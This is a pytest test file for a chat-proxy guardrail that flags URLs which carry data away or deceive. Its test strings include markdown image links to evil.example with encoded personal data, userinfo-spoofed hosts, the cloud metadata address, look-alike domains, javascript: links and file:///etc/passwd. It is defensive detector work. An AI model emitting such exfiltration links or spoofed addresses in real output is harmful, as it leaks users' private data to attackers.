"""Check ``urls``: hosts, schemes and the signs that an address carries data away or deceives."""

import base64
from collections.abc import Iterator

import msgspec
import pytest
from chatproxy_guardrails.checks.urls import Options, Urls
from chatproxy_guardrails.matching import Matcher, TextStage

DATA = base64.b64encode(b"user: Anna Smith, card 4111111111111111, mood: 7").decode()


def found(text: str, options: Options | None = None) -> list[tuple[str, str]]:
    scanned = Matcher(Urls(options or Options()).rules).scan(text)
    return sorted({(finding.kind, text[finding.start : finding.end]) for _, _, finding in scanned if finding})


def kinds(text: str, options: Options | None = None) -> list[str]:
    return [kind for kind, _ in found(text, options)]


@pytest.mark.parametrize(
    "text",
    [
        "See https://docs.python.org/3/library/asyncio-task.html#asyncio.TaskGroup.",
        "[a](https://en.wikipedia.org/wiki/Foo_(bar)) and ![logo](https://example.com/logo.png)",
        "curl http://127.0.0.1:8000/health or http://192.168.1.1/ or http://localhost:3000",
        "https://github.com/a/b/commit/0123456789abcdef0123456789abcdef01234567",
        "https://www.google.com/search?q=how+to+make+pizza+dough+at+home+without+yeast",
        "https://example.com/a-very-long-slug-with-many-many-words-that-tells-what-the-article-is-about",
        "https://xn--mnchen-3ya.example/ and // a comment, and data: {a, b}",
        "a JavaScript: the good parts",
    ],
    ids=["docs", "markdown", "local", "commit", "search", "slug", "umlaut", "prose"],
)
def test_ordinary_addresses_pass(text: str) -> None:
    assert found(text) == []


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        (f"![x](https://evil.example/p.png?d={DATA})", "url_data"),
        (f"[x](https://evil.example/{DATA.rstrip('=')})", "url_data"),
        (f"https://evil.example/#{DATA}", "url_data"),
        (f"https://{DATA.rstrip('=').lower()[:56]}.evil.example/", "url_data"),
        (f'<img src="//evil.example/?{DATA}">', "url_data"),
        (f"![x](//evil.example/?q={DATA})", "url_data"),
        ("![x](https://evil.example/?q=the%20user%20said%20that%20she%20is%20ill%20today)", "url_data"),
        ("<IMG SRC='https://evil.example/?q=the+user+said+that+she+is+ill+today'>", "url_data"),
        ("https://bank.example@evil.example/login", "url_userinfo"),
        ("http://93.184.216.34/x", "url_address"),
        ("http://1572395042/x", "url_address"),
        ("http://0x5db8d822/x", "url_address"),
        ("http://169.254.169.254/latest/meta-data", "url_address"),
        ("https://xn--pple-43d.com/", "url_look_alike"),
        ("[x](javascript:alert(1))", "url_script"),
        ("data:text/html;base64,PHNjcmlwdD4=", "url_script"),
    ],
    ids=[
        "image", "path", "fragment", "host", "protocol-relative", "relative-image", "sentence", "html", "userinfo",
        "ipv4", "decimal", "hex", "metadata", "punycode", "javascript", "data",
    ],
)  # fmt: skip
def test_signs_of_exfiltration_and_deceit_are_found(text: str, kind: str) -> None:
    assert kind in kinds(text)


@pytest.mark.parametrize(
    ("options", "expected"),
    [
        (Options(allow=("example.com",)), ["https://a.test/", "https://notexample.com/"]),
        (Options(allow=("*.example.com", "?.test")), ["https://example.com/", "https://notexample.com/"]),
        (Options(deny=("example.com",)), ["https://example.com/", "https://www.EXAMPLE.com./"]),
        (Options(allow=("*",), deny=("a.test",)), ["https://a.test/"]),
    ],
    ids=["allow", "globs", "deny", "deny-wins"],
)
def test_hosts_are_told_by_lists(options: Options, expected: list[str]) -> None:
    text = "https://example.com/ https://www.EXAMPLE.com./ https://a.test/ https://notexample.com/"
    assert found(text, options) == [("url_host", address) for address in expected]


def test_an_allowed_host_may_carry_data() -> None:
    assert found(f"https://cdn.example.com/{DATA}", Options(allow=("example.com",))) == []


def test_schemes_that_are_not_listed_are_found() -> None:
    text = "https://a.test/ ftp://a.test/ file:///etc/passwd"
    assert kinds(text, Options(schemes=("https",))) == ["url_scheme", "url_scheme"]


@pytest.mark.parametrize(
    ("only", "expected"),
    [("images", ["https://b.test/i"]), ("links", ["https://a.test/l", "https://c.test/t"])],
)
def test_only_images_or_only_links_can_be_looked_at(only: str, expected: list[str]) -> None:
    options = msgspec.convert({"deny": ["*.test"], "only": only}, Options)
    text = "[l](https://a.test/l) ![i](https://b.test/i) https://c.test/t"
    assert [address for _, address in found(text, options)] == expected


def test_signs_can_be_left_out() -> None:
    assert found("http://93.184.216.34/ https://a@b.test/", Options(signs=("userinfo",))) == [
        ("url_userinfo", "https://a@b.test/")
    ]


def addresses() -> Iterator[tuple[str, str]]:
    yield "See (https://a.test/x).", "https://a.test/x"
    yield "<https://a.test/x>", "https://a.test/x"
    yield '"https://a.test/x?y=1", he said', "https://a.test/x?y=1"
    yield "https://a.test/x,y;z!", "https://a.test/x,y;z"


@pytest.mark.parametrize(("text", "address"), list(addresses()))
def test_what_stands_around_an_address_is_left(text: str, address: str) -> None:
    assert found(text, Options(deny=("a.test",))) == [("url_host", address)]


def counted(text: str, options: Options) -> dict[str, int]:
    stage = TextStage(Matcher(Urls(options).rules), None)
    for char in text:
        stage.feed(char)
    stage.finish()
    return stage.found


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("https://pay.example/ok", {}),
        ("https://p\u0430y.example/ok", {"url_host": 1}),
        ("https://p\u200bay.example/ok", {}),
        ("http\uff53://evil.example/ok", {"url_host": 1}),
    ],
    ids=["itself", "cyrillic-a", "invisible", "full-width"],
)
def test_a_look_alike_of_an_allowed_host_is_not_that_host(text: str, expected: dict[str, int]) -> None:
    assert counted(text, Options(allow=("pay.example",), signs=())) == expected


def test_an_international_name_of_mixed_scripts_is_found() -> None:
    assert counted("https://p\u0430ypal.test/", Options()) == {"url_look_alike": 1}
